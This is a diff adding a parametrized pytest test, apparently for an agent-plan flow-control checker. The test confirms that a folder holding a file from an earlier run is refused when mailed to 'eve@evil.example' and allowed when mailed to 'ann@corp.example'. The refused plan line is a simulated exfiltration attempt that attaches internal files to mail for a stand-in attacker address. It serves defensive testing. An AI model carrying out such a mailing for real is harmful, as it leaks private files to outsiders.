@@ -64,6 +64,18 @@ async def test_file_filled_by_earlier_run_is_not_sent_to_untrusted_recipient(wor
     assert [call["to"] for call in sent] == ["eve@evil.example", "ann@corp.example"]
 
 
+@pytest.mark.parametrize("path", ["docs", "docs/", "docs/*.md"])
+async def test_a_folder_that_holds_such_a_file_goes_to_no_stranger(world: World, path: str) -> None:
+    sent = mailing(world)
+    await world.run(NOTES, facts=FACTS)
+    plan = f'S1: @MAIL (to="{{}}", body="hi", attachments=["{path}"]) > $r'
+    found = refusal(await world.run(plan.format("eve@evil.example"), "second", facts=FACTS))
+    assert (found.step, found.rule) == ("S1", "flow")
+    assert sent == []
+    await world.run(plan.format("ann@corp.example"), "third", facts=FACTS)
+    assert [call["to"] for call in sent] == ["ann@corp.example"]
+
+
 async def test_recipient_in_one_of_many_values_is_found(world: World) -> None:
     """No call is judged by labels alone if its arguments have members."""
     sent = mailing(world)
